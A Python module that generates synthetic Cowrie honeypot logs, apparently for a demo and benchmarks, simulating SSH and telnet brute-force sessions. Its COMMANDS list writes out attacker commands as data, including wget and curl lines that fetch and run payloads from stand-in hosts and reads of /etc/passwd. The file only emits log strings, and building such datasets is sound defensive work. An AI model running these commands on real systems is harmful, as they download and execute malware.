# SPDX-License-Identifier: MIT
"""A synthetic attack dataset in Cowrie 3.x JSON, for the demo and the benchmarks.

It is clearly labelled: every sensor is named ``synthetic-<region>`` and
files are named ``synthetic-*.cowrie.json``. It is not real traffic, but it
has the shape of real honeypot data:

* heavy skew: a few source IPs, usernames and passwords dominate (Zipf);
* whole sessions: connect → client version → kex (HASSH) → login attempts →
  (on success) commands and downloads → closed, with growing timestamps;
* several sensors in different cloud regions, attacked at different rates.

Lines are built from pre-escaped templates rather than ``json.dumps`` per
event, so millions of events take seconds to generate.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import ipaddress
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

SENSORS: tuple[tuple[str, str, float], ...] = (
    # name, sensor address, share of the traffic
    ("synthetic-us-east-1", "10.10.1.5", 0.35),
    ("synthetic-eu-west-1", "10.20.1.5", 0.25),
    ("synthetic-ap-southeast-1", "10.30.1.5", 0.25),
    ("synthetic-sa-east-1", "10.40.1.5", 0.15),
)

USERNAMES = ["root", "admin", "user", "ubuntu", "test", "oracle", "pi", "postgres", "guest", "support",
             "ftpuser", "git", "deploy", "hadoop", "mysql", "nagios", "tomcat", "www-data", "centos",
             "ec2-user"]  # fmt: skip
PASSWORDS = ["123456", "admin", "password", "root", "1234", "12345", "123456789", "qwerty", "12345678",
             "111111", "admin123", "test", "1qaz2wsx", "P@ssw0rd", "changeme", "raspberry", "toor",
             "default", "ubnt", "abc123"]  # fmt: skip
CLIENTS = [
    ("SSH-2.0-Go", "16443846184eafde36765c9bab2f4397"),
    ("SSH-2.0-libssh2_1.10.0", "b5752e36ba6c5979a575e43178908adf"),
    ("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
    ("SSH-2.0-PUTTY", "d3b0e1a0f0bd2e0e8c9a4b4d2a7c2f11"),
    ("SSH-2.0-libssh-0.9.6", "f555226df1963d1d3c09daf865abdc9a"),
]
COMMANDS = [
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "free -m", "ls -la",
    "cd /tmp; wget http://{host}/bins/x86_64; chmod +x x86_64; ./x86_64",
    "cat /etc/passwd", "echo -e '\\x41\\x42'", "nproc", "w", "crontab -l",
    "curl -s http://{host}/sh | sh", "busybox tftp -g -r mips {host}", "history -c",
]  # fmt: skip
MALWARE_HOSTS = ["203.0.113.7", "198.51.100.23", "192.0.2.44"]
UUID = "4b641156-0da5-11f1-8f67-bc2411b4efd9"

#: T-Pot's sensors: long generated host names, as the ``sensor`` field of a T-Pot fleet's Cowrie shows them.
TPOT_SENSORS: tuple[tuple[str, str, float], ...] = (
    ("synthetic-tpot-hive-fra1-7c2d9e41a3.honeypot.example.net", "172.20.0.11", 0.35),
    ("synthetic-tpot-hive-ams3-b81f04c6de.honeypot.example.net", "172.20.0.12", 0.25),
    ("synthetic-tpot-sensor-sgp1-2a6e93f7c0.honeypot.example.net", "172.20.0.13", 0.25),
    ("synthetic-tpot-sensor-nyc3-e5094bd12f.honeypot.example.net", "172.20.0.14", 0.15),
)
TPOT_UUID = "0b197d0c-e64b-11f1-a71e-02fc00000001"
#: A modern OpenSSH client's key exchange, as Cowrie 3.x writes it in ``cowrie.client.kex``.
TPOT_KEX = (
    '"hasshAlgorithms":"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,'
    "ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,"
    "diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,ext-info-c,kex-strict-c-v00@openssh.com;"
    "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com;"
    'hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1;none",'
    '"kexAlgs":["curve25519-sha256","curve25519-sha256@libssh.org","ecdh-sha2-nistp256","ecdh-sha2-nistp384",'
    '"ecdh-sha2-nistp521","diffie-hellman-group-exchange-sha256","diffie-hellman-group16-sha512",'
    '"diffie-hellman-group18-sha512","diffie-hellman-group14-sha256","ext-info-c","kex-strict-c-v00@openssh.com"],'
    '"keyAlgs":["ssh-ed25519","ecdsa-sha2-nistp256","rsa-sha2-512","rsa-sha2-256"],'
    '"encCS":["chacha20-poly1305@openssh.com","aes128-ctr","aes192-ctr","aes256-ctr","aes128-gcm@openssh.com",'
    '"aes256-gcm@openssh.com"],"macCS":["hmac-sha2-256-etm@openssh.com","hmac-sha2-512-etm@openssh.com",'
    '"hmac-sha2-256","hmac-sha2-512","hmac-sha1"],"compCS":["none","zlib@openssh.com","zlib"],"langCS":[""]'
)


def _zipf_weights(n: int, s: float = 1.1) -> list[float]:
    return [1.0 / (i + 1) ** s for i in range(n)]


def _attackers(rng: random.Random, n: int) -> list[str]:
    out: list[str] = []
    while len(out) < n:
        ip = ipaddress.IPv4Address(rng.getrandbits(32))
        if ip.is_global and not ip.is_multicast:
            out.append(str(ip))
    return out


@dataclass
class _Pools:
    ips: list[str]
    ip_w: list[float]
    user_w: list[float]
    pass_w: list[float]
    extra_users: list[str]
    extra_pass: list[str]


def _q(s: str) -> str:
    return json.dumps(s)


class Generator:
    """Produces Cowrie JSON lines, session by session."""

    def __init__(
        self,
        seed: int = 7,
        start: dt.datetime | None = None,
        days: float = 7.0,
        attackers: int = 3000,
        tpot: bool = False,
    ):
        self.rng = random.Random(seed)
        self.tpot = tpot
        self.start = start or dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
        self.span = days * 86400.0
        rng = self.rng
        self.pools = _Pools(
            ips=_attackers(rng, attackers),
            ip_w=_zipf_weights(attackers, 1.2),
            user_w=_zipf_weights(len(USERNAMES), 1.3),
            pass_w=_zipf_weights(len(PASSWORDS), 1.2),
            extra_users=[f"user{i}" for i in range(5000)],
            extra_pass=[f"pw{rng.getrandbits(40):x}" for i in range(20000)],
        )

    def sessions(
        self, events: int, sensors: tuple[tuple[str, str, float], ...] = SENSORS
    ) -> Iterator[tuple[str, list[str]]]:
        """Yield ``(sensor, lines)`` per session until ``events`` lines were produced."""
        rng, p = self.rng, self.pools
        names = [s[0] for s in sensors]
        weights = [s[2] for s in sensors]
        addr = {s[0]: s[1] for s in sensors}
        n = 0
        # Sessions arrive in time order; the mean gap spreads `events` over the span.
        mean_gap = self.span / max(events / (7.0 if self.tpot else 8.0), 1.0)
        make = self._tpot_session if self.tpot else self._session
        t = self.start.timestamp()
        while n < events:
            t += rng.expovariate(1.0 / mean_gap)
            sensor = rng.choices(names, weights)[0]
            ip = rng.choices(p.ips, p.ip_w)[0]
            lines = make(sensor, addr[sensor], ip, t)
            lines = lines[: events - n]
            n += len(lines)
            yield sensor, lines

    def _session(self, sensor: str, dst: str, ip: str, t: float) -> list[str]:
        rng, p = self.rng, self.pools
        sid = f"{rng.getrandbits(48):012x}"
        port = rng.randint(1024, 65535)
        proto = "ssh" if rng.random() < 0.85 else "telnet"
        dport = 22 if proto == "ssh" else 23
        common = (
            f'"src_ip":"{ip}","src_port":{port},"dst_ip":"{dst}","dst_port":{dport},'
            f'"session":"{sid}","protocol":"{proto}","sensor":"{sensor}","uuid":"{UUID}"'
        )
        out: list[str] = []
        clock = [t]

        def emit(eventid: str, body: str) -> None:
            clock[0] += rng.random() * 0.8
            ts = dt.datetime.fromtimestamp(clock[0], dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            out.append(f'{{"eventid":"{eventid}",{body}{"," if body else ""}{common},"timestamp":"{ts}"}}')

        emit("cowrie.session.connect",
             f'"message":"New connection: {ip}:{port} ({dst}:{dport}) [session: {sid}]"')  # fmt: skip
        if proto == "ssh":
            version, hassh = rng.choice(CLIENTS)
            emit("cowrie.client.version", f'"version":{_q(version)},"message":{_q("Remote SSH version: " + version)}')
            emit(
                "cowrie.client.kex",
                f'"hassh":"{hassh}","hasshAlgorithms":"curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none",'
                '"kexAlgs":["curve25519-sha256","ecdh-sha2-nistp256","diffie-hellman-group14-sha256"],'
                '"keyAlgs":["ssh-ed25519","rsa-sha2-256"],"encCS":["aes128-ctr","aes256-ctr"],'
                '"macCS":["hmac-sha2-256"],"compCS":["none"],"langCS":[""],'
                f'"message":"SSH client hassh fingerprint: {hassh}"',
            )
        success = False
        for _ in range(rng.choice((1, 1, 2, 3, 4, 6))):
            user = rng.choices(USERNAMES, p.user_w)[0] if rng.random() < 0.8 else rng.choice(p.extra_users)
            pw = rng.choices(PASSWORDS, p.pass_w)[0] if rng.random() < 0.6 else rng.choice(p.extra_pass)
            success = rng.random() < 0.12
            what = "succeeded" if success else "failed"
            emit(
                f"cowrie.login.{'success' if success else 'failed'}",
                f'"username":{_q(user)},"password":{_q(pw)},"message":{_q(f"login attempt [{user}/{pw}] {what}")}',
            )
            if success:
                break
        if success:
            host = rng.choice(MALWARE_HOSTS)
            for _ in range(rng.randint(1, 5)):
                cmd = rng.choice(COMMANDS).format(host=host)
                emit("cowrie.command.input", f'"input":{_q(cmd)},"message":{_q("CMD: " + cmd)}')
                if "wget" in cmd or "curl" in cmd:
                    url = f"http://{host}/bins/x86_64" if "wget" in cmd else f"http://{host}/sh"
                    sha = hashlib.sha256(url.encode()).hexdigest()  # stands in for the payload's hash
                    emit(
                        "cowrie.session.file_download",
                        f'"url":"{url}","outfile":"var/lib/cowrie/downloads/{sha}","shasum":"{sha}",'
                        f'"message":"Downloaded URL ({url}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}"',
                    )
        dur = clock[0] - t
        emit("cowrie.session.closed", f'"duration":"{dur:.1f}","message":"Connection lost after {dur:.1f} seconds"')
        return out

    def _tpot_session(self, sensor: str, dst: str, ip: str, t: float) -> list[str]:
        """One session as Cowrie 3.x writes it on T-Pot: key order, fields and messages of real 3.x logs.

        Every event carries ``message``, ``sensor``, ``uuid``, ``timestamp``, ``src_ip``, ``session`` and
        ``protocol`` (``connect`` also the ports and ``dst_ip``); ~7 events a session, mostly scanners that
        try a password or two. Shapes follow ../shared/samples/cowrie_json (hoanb1 2026, local 3.1.4).
        """
        rng, p = self.rng, self.pools
        sid = f"{rng.getrandbits(48):012x}"
        port = rng.randint(1024, 65535)
        proto = "ssh" if rng.random() < 0.8 else "telnet"
        dport = 22 if proto == "ssh" else 23
        tail = f'"sensor":"{sensor}","uuid":"{TPOT_UUID}"'
        where = f'"src_ip":"{ip}","session":"{sid}","protocol":"{proto}"'
        out: list[str] = []
        clock = [t]

        def emit(eventid: str, body: str, message: str, first: str = "") -> None:
            clock[0] += rng.random() * 0.6
            ts = dt.datetime.fromtimestamp(clock[0], dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            lead = f'"eventid":"{eventid}",{first}' if first else f'"eventid":"{eventid}",'
            out.append(f'{{{lead}{body}{"," if body else ""}"message":{message},{tail},"timestamp":"{ts}",{where}}}')

        emit(
            "cowrie.session.connect",
            "",
            _q(f"New connection: {ip}:{port} ({dst}:{dport}) [session: {sid}]"),
            f'"src_ip":"{ip}","src_port":{port},"dst_ip":"{dst}","dst_port":{dport},"session":"{sid}",'
            f'"protocol":"{proto}",',
        )
        # The connect event carries src_ip/session/protocol up front, not after the timestamp.
        out[-1] = out[-1].replace(f",{where}}}", "}")
        if proto == "ssh":
            version, hassh = rng.choice(CLIENTS)
            emit("cowrie.client.version", f'"version":{_q(version)}', _q("Remote SSH version: " + version))
            emit("cowrie.client.kex", f'"hassh":"{hassh}",{TPOT_KEX}', _q(f"SSH client hassh fingerprint: {hassh}"))
        success = False
        for _ in range(rng.choice((1, 1, 2, 2, 3, 4))):
            user = rng.choices(USERNAMES, p.user_w)[0] if rng.random() < 0.8 else rng.choice(p.extra_users)
            pw = rng.choices(PASSWORDS, p.pass_w)[0] if rng.random() < 0.6 else rng.choice(p.extra_pass)
            success = rng.random() < 0.15
            what = "succeeded" if success else "failed"
            emit(
                f"cowrie.login.{'success' if success else 'failed'}",
                f'"username":{_q(user)},"password":{_q(pw)}',
                _q(f"login attempt [{user}/{pw}] {what}"),
            )
            if success:
                break
        if success:
            if proto == "ssh":
                w, h = rng.choice(((80, 24), (106, 24), (200, 50)))
                emit("cowrie.client.size", f'"width":{w},"height":{h}', _q(f"Terminal Size: {w} {h}"))
                emit("cowrie.client.var", '"name":"LANG","value":"en_US.UTF-8"', _q("request_env: LANG=en_US.UTF-8"))
                emit("cowrie.session.params", '"arch":"linux-x64-lsb"', "[]")
            host = rng.choice(MALWARE_HOSTS)
            for _ in range(rng.randint(1, 4)):
                cmd = rng.choice(COMMANDS).format(host=host)
                emit("cowrie.command.input", f'"input":{_q(cmd)}', _q("CMD: " + cmd))
                if "wget" in cmd or "curl" in cmd:
                    url = f"http://{host}/bins/x86_64" if "wget" in cmd else f"http://{host}/sh"
                    sha = hashlib.sha256(url.encode()).hexdigest()  # stands in for the payload's hash
                    dl = f"var/lib/cowrie/downloads/{sha}"
                    emit(
                        "cowrie.session.file_download",
                        f'"url":"{url}","outfile":"{dl}","shasum":"{sha}","destfile":"/tmp/x86_64","duplicate":false',
                        _q(f"Downloaded URL ({url}) with SHA-256 {sha} to {dl}"),
                    )
            dur = clock[0] - t
            tty = f"{rng.getrandbits(256):064x}"
            emit(
                "cowrie.log.closed",
                f'"ttylog":"var/lib/cowrie/tty/{tty}","size":{rng.randint(50, 9000)},"shasum":"{tty}",'
                f'"duplicate":false,"duration":"{dur:.1f}"',
                _q(f"Closing TTY Log: var/lib/cowrie/tty/{tty} after {dur:.1f} seconds"),
            )
        dur = clock[0] - t
        emit("cowrie.session.closed", f'"duration":"{dur:.1f}"', _q(f"Connection lost after {dur:.1f} seconds"))
        return out


def write_cowrie_log(
    path: Path,
    events: int,
    seed: int = 7,
    days: float = 7.0,
    start: dt.datetime | None = None,
    tpot: bool = False,
) -> int:
    """Write ``events`` synthetic Cowrie lines (all sensors mixed) to one file; returns its size.

    ``tpot``: Cowrie 3.x as a T-Pot install writes it (:data:`TPOT_SENSORS`, :meth:`Generator._tpot_session`).
    """
    gen = Generator(seed=seed, days=days, start=start, tpot=tpot)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        for _, lines in gen.sessions(events, TPOT_SENSORS if tpot else SENSORS):
            f.write("\n".join(lines))
            f.write("\n")
    return path.stat().st_size


def write_demo_logs(folder: Path, events: int, seed: int = 7, days: float = 7.0) -> list[Path]:
    """One ``synthetic-<sensor>.cowrie.json`` per sensor, as a fleet's shipped logs would be."""
    folder.mkdir(parents=True, exist_ok=True)
    gen = Generator(seed=seed, days=days)
    handles = {name: open(folder / f"{name}.cowrie.json", "w", encoding="utf-8") for name, _, _ in SENSORS}  # noqa: SIM115
    try:
        for sensor, lines in gen.sessions(events):
            handles[sensor].write("\n".join(lines) + "\n")
    finally:
        for h in handles.values():
            h.close()
    return sorted(folder / f"{name}.cowrie.json" for name, _, _ in SENSORS)
